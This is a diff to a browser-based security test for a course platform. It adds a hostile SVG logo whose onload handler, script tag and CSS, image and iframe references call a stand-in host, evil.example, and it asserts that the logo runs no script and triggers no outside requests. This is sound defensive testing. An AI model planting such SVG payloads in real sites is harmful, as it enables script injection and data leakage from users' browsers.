@@ -1,5 +1,6 @@
 """Abuse case 26 (quality.md §3.3): hostile words in every field are words, in a real browser."""
 
+import hashlib
 import re
 
 import pytest
@@ -10,8 +11,15 @@ import clock
 from commands.demonstration import PASSWORD as STAFF_PASSWORD
 from commands.demonstration import REFERENCE_COURSE
 from extensions import db
-from models import Certificate, LearnerQuestion
-from services import attempts, certification, evaluations, learner_questions
+from models import Certificate, LearnerQuestion, Provider, ProviderImage
+from services import (
+    attempts,
+    certification,
+    evaluations,
+    learner_questions,
+    provider,
+    provider_look,
+)
 from services.enrollments import Study
 from services.learner_questions import Written
 from services.progress import get_progress
@@ -37,6 +45,13 @@ HOSTILE = "\n\n".join(
         '" autofocus onfocus="hacked=1',
     ]
 )
+
+HOSTILE_LOGO = """<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" width="90" height="90"
+onload="window.hacked=1"><script>window.hacked=1; fetch("//evil.example/s")</script>
+<style>@import url("https://evil.example/c.css"); path { fill: url("https://evil.example/p") }
+</style><image href="https://evil.example/x.png" width="9" height="9"/>
+<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml"
+src="https://evil.example/f"/></foreignObject><path d="M0 0h9v9z"/></svg>"""
 
 
 def test_case_26_hostile_words_stay_words(center: Center, new_context) -> None:  # type: ignore[no-untyped-def]
@@ -70,6 +85,52 @@ def test_case_26_hostile_words_stay_words(center: Center, new_context) -> None: 
     _log_in(thread_page, "bob@example.org", STAFF_PASSWORD)
     thread_page.goto(f"/instructor/questions/{thread}")
     assert "<script>window.hacked=1</script>" in thread_page.locator("main").inner_text()
+
+
+def test_a_hostile_logo_does_nothing_even_if_it_were_kept(center: Center, new_context) -> None:  # type: ignore[no-untyped-def]
+    """Put into the database past the checks, which refuse it: on pages, and opened by itself."""
+    before = _plant_logo(center)
+    page = new_context().new_page()
+    trouble: list[str] = []
+    page.on("request", lambda request: trouble.append(request.url))
+    page.on("dialog", lambda dialog: (trouble.append("a dialog"), dialog.dismiss()))
+    try:
+        _log_in(page, "carol@example.org", STAFF_PASSWORD)
+        for path in ("", "/images/logo", "/images/sheet"):
+            page.goto(f"/admin/provider/look{path}")
+            page.evaluate(TWO_FRAMES)
+            assert page.evaluate("typeof window.hacked") == "undefined", path
+        page.goto("/admin/provider/look")
+        shown = page.locator(".look-image img").first
+        assert shown.evaluate("image => image.complete && image.naturalWidth > 0")
+        assert [url for url in trouble if not url.startswith((center.url, "data:"))] == []
+    finally:
+        _set_look(center, before)
+
+
+def _plant_logo(center: Center) -> dict[str, str]:
+    """Make a hostile drawing the provider's logo; returns the look as it was."""
+    content = HOSTILE_LOGO.encode()
+    sha256 = hashlib.sha256(content).hexdigest()
+    with center.app.app_context():
+        before = provider_look.present_look()
+        db.session.add(
+            ProviderImage(
+                sha256=sha256, media_type="image/svg+xml", content=content, added_at=clock.now()
+            )
+        )
+        db.session.commit()
+    _set_look(center, {**before, "logo": sha256})
+    return before
+
+
+def _set_look(center: Center, look: dict[str, str]) -> None:
+    with center.app.app_context():
+        row = db.session.get_one(Provider, 1)
+        row.facts = {**row.facts, "look": look}
+        db.session.commit()
+        db.session.remove()
+        provider.forget()
 
 
 def _prepare(center: Center) -> tuple[str, str, int]:
